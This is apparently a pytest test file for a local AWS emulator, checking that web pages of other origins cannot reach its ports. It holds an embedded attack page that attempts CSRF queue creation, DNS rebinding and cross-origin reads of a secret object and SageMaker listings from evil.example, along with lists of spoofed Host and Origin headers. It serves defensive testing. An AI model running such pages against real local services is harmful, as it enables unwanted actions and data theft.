"""Attacks of web pages on the ports of local AWS, and what a bucket or an API has opened to them."""

import http.client
import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from localaws.errors import LocalAwsError
from localaws.ministack.s3.hooks_bucket_cors import BucketCors
from localaws.protocol.same_origin import is_local
from localaws.settings import allowed_hosts
from tests.browser import filled, report_of_page
from tests.conftest import LocalAws, local_aws_command

EVIL = "http://evil.example"
PORTS = ("gateway", "sagemaker", "services")

ATTACKS = """<!doctype html><script>
const evil = name => new URLSearchParams({Action: "CreateQueue", QueueName: name, Version: "2012-11-05"});
const simple = (url, name) => fetch(url, {method: "POST", mode: "no-cors", body: evil(name)});
const read = async (url, options) => {
  try { const answer = await fetch(url, options); return [answer.status, await answer.text()]; }
  catch (error) { return error.name; }
};
const submitted = name => new Promise(resolve => {
  const frame = document.createElement("iframe");
  frame.name = "target";
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), {method: "post", action: local, target: "target"});
  for (const [key, value] of evil(name))
    form.append(Object.assign(document.createElement("input"), {name: key, value}));
  document.body.append(form);
  frame.onload = resolve;
  form.submit();
});
window.onload = async () => {
  const report = {};
  await simple(local, prefix + "fetch").catch(() => 0);
  await simple(rebound, prefix + "rebound").catch(() => 0);
  await Promise.race([submitted(prefix + "form"), new Promise(resolve => setTimeout(resolve, 5000))]);
  report.read = await read(local + bucket + "/secret.txt");
  report.listed = await read(local, {headers: {"X-Amz-Target": "SageMaker.ListModels"}, method: "POST", body: "{}"});
  report.put = await read(local + prefix + "put", {method: "PUT"});
  report.sagemaker = await read(sagemaker + "health");
  report.opened = await read(local + opened + "/open.txt");
  report.written = await read(local + opened + "/new.txt", {method: "PUT", body: "written"});
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
};
</script><body></body>"""


def ask(port: int, method: str, path: str, headers: dict[str, str], body: str = "") -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request(method, path, body, headers)
    return connection.getresponse()


@pytest.fixture(scope="module")
def buckets(local_aws: LocalAws) -> tuple[str, str]:
    """A bucket with an object, and one that has opened itself to a page's origin, whatever its port."""
    closed, opened = (f"{name}-{uuid.uuid4().hex[:8]}" for name in ("closed", "opened"))
    s3 = local_aws.client("s3")
    for bucket, key in ((closed, "secret.txt"), (opened, "open.txt")):
        s3.create_bucket(Bucket=bucket)
        s3.put_object(Bucket=bucket, Key=key, Body=key.encode())
    rule = {"AllowedOrigins": [f"{EVIL}:*"], "AllowedMethods": ["GET"], "AllowedHeaders": ["*"]}
    s3.put_bucket_cors(Bucket=opened, CORSConfiguration={"CORSRules": [rule]})
    return closed, opened


def test_a_page_of_another_origin_reaches_nothing(
    local_aws: LocalAws, buckets: tuple[str, str], tmp_path: Path
) -> None:
    prefix = f"page-{uuid.uuid4().hex[:8]}-"
    values = {
        "local": f"http://127.0.0.1:{local_aws.port}/",
        "rebound": f"http://rebound.example:{local_aws.port}/",
        "sagemaker": f"http://localhost:{local_aws.sagemaker_port}/",
        "prefix": prefix,
        "bucket": buckets[0],
        "opened": buckets[1],
    }
    report = report_of_page(filled(ATTACKS, values), "evil.example", tmp_path, ("rebound.example",))
    assert local_aws.client("sqs").list_queues(QueueNamePrefix=prefix).get("QueueUrls", []) == []
    assert not [each for each in local_aws.client("s3").list_buckets()["Buckets"] if each["Name"].startswith(prefix)]
    assert report == {
        **dict.fromkeys(("read", "listed", "put", "sagemaker", "written"), "TypeError"),
        "opened": [200, "open.txt"],
    }
    with pytest.raises(Exception, match="404"):
        local_aws.client("s3").head_object(Bucket=buckets[1], Key="new.txt")


@pytest.mark.parametrize("port", PORTS)
@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD"])
@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"Host": "127.0.0.1.evil.example:4566"},
        {"Origin": EVIL},
        {"Origin": "null"},
        {"Origin": "http://localhost:1"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
    ids=str,
)
def test_foreign_requests_are_refused_on_every_port(
    local_aws: LocalAws, port: str, method: str, headers: dict[str, str]
) -> None:
    answer = ask(getattr(local_aws.ports, port), method, "/health", headers)
    assert answer.status == 403
    assert not [name for name, _ in answer.getheaders() if name.lower().startswith("access-control-")]
    if method != "HEAD":
        [value] = headers.values()
        assert f"{value!r}" in json.loads(answer.read())["message"]


@pytest.mark.parametrize("port", PORTS)
def test_programs_and_own_pages_are_answered(local_aws: LocalAws, port: str) -> None:
    number = getattr(local_aws.ports, port)
    path = "/_localaws/health" if port == "gateway" else "/health"
    for headers in (
        {},
        {"Host": "localhost"},
        {"Origin": f"http://127.0.0.1:{number}"},
        {"Sec-Fetch-Site": "none"},
        {"Sec-Fetch-Site": "same-origin"},
    ):
        assert ask(number, "GET", path, headers).status != 403


def test_a_web_socket_of_another_origin_is_refused(local_aws: LocalAws) -> None:
    handshake = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    key = {"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
    assert ask(local_aws.port, "GET", "/", {**handshake, **key, "Origin": EVIL}).status == 403


def test_no_answer_is_open_to_all(local_aws: LocalAws, buckets: tuple[str, str]) -> None:
    """MiniStack adds a wildcard to its answers."""
    answer = ask(local_aws.port, "GET", f"/{buckets[0]}/secret.txt", {})
    assert answer.status == 200
    assert answer.getheader("access-control-allow-origin") is None


def test_a_bucket_opens_itself_and_nothing_else(local_aws: LocalAws, buckets: tuple[str, str]) -> None:
    closed, opened = buckets
    origin = {"Origin": f"{EVIL}:81"}
    answer = ask(local_aws.port, "GET", f"/{opened}/open.txt", origin)
    assert (answer.status, answer.getheader("access-control-allow-origin")) == (200, origin["Origin"])
    assert ask(local_aws.port, "GET", f"/{closed}/secret.txt", origin).status == 403
    assert ask(local_aws.port, "PUT", f"/{opened}/open.txt", origin, "x").status == 403
    preflight = {**origin, "Access-Control-Request-Method": "GET"}
    assert ask(local_aws.port, "OPTIONS", f"/{opened}/open.txt", preflight).status == 200
    assert ask(local_aws.port, "OPTIONS", f"/{closed}/secret.txt", preflight).status == 403
    # The path names the open bucket, the rest another service.
    form = {**origin, "Content-Type": "application/x-www-form-urlencoded"}
    assert ask(local_aws.port, "GET", f"/{opened}", form, "Action=ListQueues").status == 403
    assert ask(local_aws.port, "GET", f"/{opened}?Action=ListQueues", origin).status == 403
    assert ask(local_aws.port, "GET", f"/{opened}", {**origin, "X-Amz-Target": "SageMaker.ListModels"}).status == 403


def test_a_document_in_a_bucket_has_an_origin_of_its_own(local_aws: LocalAws, buckets: tuple[str, str]) -> None:
    local_aws.client("s3").put_object(Bucket=buckets[0], Key="page.html", Body=b"<p>", ContentType="text/html")
    answer = ask(local_aws.port, "GET", f"/{buckets[0]}/page.html", {})
    assert str(answer.getheader("content-security-policy")).startswith("sandbox ")


def test_an_api_opens_itself_by_its_preflight(local_aws: LocalAws) -> None:
    gateway = local_aws.client("apigateway")
    api: dict[str, Any] = {"restApiId": gateway.create_rest_api(name=f"c-{uuid.uuid4().hex[:8]}")["id"]}
    [root] = gateway.get_resources(**api)["items"]
    paths = {}
    for name in ("open", "closed"):
        resource = gateway.create_resource(**api, parentId=root["id"], pathPart=name)["id"]
        methods = (
            {"GET": {}, "OPTIONS": {"Access-Control-Allow-Origin": f"'{EVIL}'"}} if name == "open" else {"GET": {}}
        )
        for method, headers in methods.items():
            place = {**api, "resourceId": resource, "httpMethod": method}
            named = {f"method.response.header.{key}": value for key, value in headers.items()}
            gateway.put_method(**place, authorizationType="NONE")
            gateway.put_method_response(**place, statusCode="200", responseParameters=dict.fromkeys(named, True))
            gateway.put_integration(**place, type="MOCK", requestTemplates={"application/json": '{"statusCode": 200}'})
            gateway.put_integration_response(**place, statusCode="200", responseParameters=named)
        paths[name] = f"/_aws/execute-api/{api['restApiId']}/s/{name}"
    gateway.create_deployment(**api, stageName="s")
    assert ask(local_aws.port, "GET", paths["open"], {"Origin": EVIL}).status == 200
    assert ask(local_aws.port, "GET", paths["open"], {"Origin": "http://other.example"}).status == 403
    assert ask(local_aws.port, "GET", paths["closed"], {"Origin": EVIL}).status == 403
    assert ask(local_aws.port, "GET", paths["closed"], {}).status == 200


def test_what_no_page_sends_is_not_looked_at() -> None:
    """Whom a request is for can take seconds to say: of boto3's, the loop that answers them is not held up for it."""
    buckets = BucketCors.__new__(BucketCors)  # without MiniStack, which it would import
    buckets._service = lambda *_: pytest.fail("it is asked whom the request is for")
    scope = {"type": "http", "method": "GET", "path": "/", "query_string": b"", "headers": [(b"host", b"localhost")]}
    assert buckets.preflight(scope) is None
    assert not buckets.allows(scope)


def test_names_of_this_machine() -> None:
    for host in ("localhost:4566", "LOCALHOST.", "a.s3.localhost", "127.0.0.1:1", "127.8.9.1", "[::1]:4566"):
        assert is_local(host)
    for host in ("", "evil.example", "localhost.evil.example", "0.0.0.0:4566", "10.0.0.1", "localhost:4566:1", "x:y@z"):
        assert not is_local(host)
    assert is_local("box.lan:4566", frozenset({"box.lan"}))


def test_other_names_by_a_setting(tmp_path: Path) -> None:
    assert allowed_hosts({"LOCALAWS_ALLOWED_HOSTS": "Box.lan, 192.168.1.7"}) == {"box.lan", "192.168.1.7"}
    with pytest.raises(LocalAwsError, match=r"http://box\.lan"):
        allowed_hosts({"LOCALAWS_ALLOWED_HOSTS": "http://box.lan"})
    refused = local_aws_command("start", state_dir=tmp_path / "state", environ={"LOCALAWS_ALLOWED_HOSTS": "a b"})
    assert refused.returncode != 0
    assert "names 'a b'" in refused.stderr
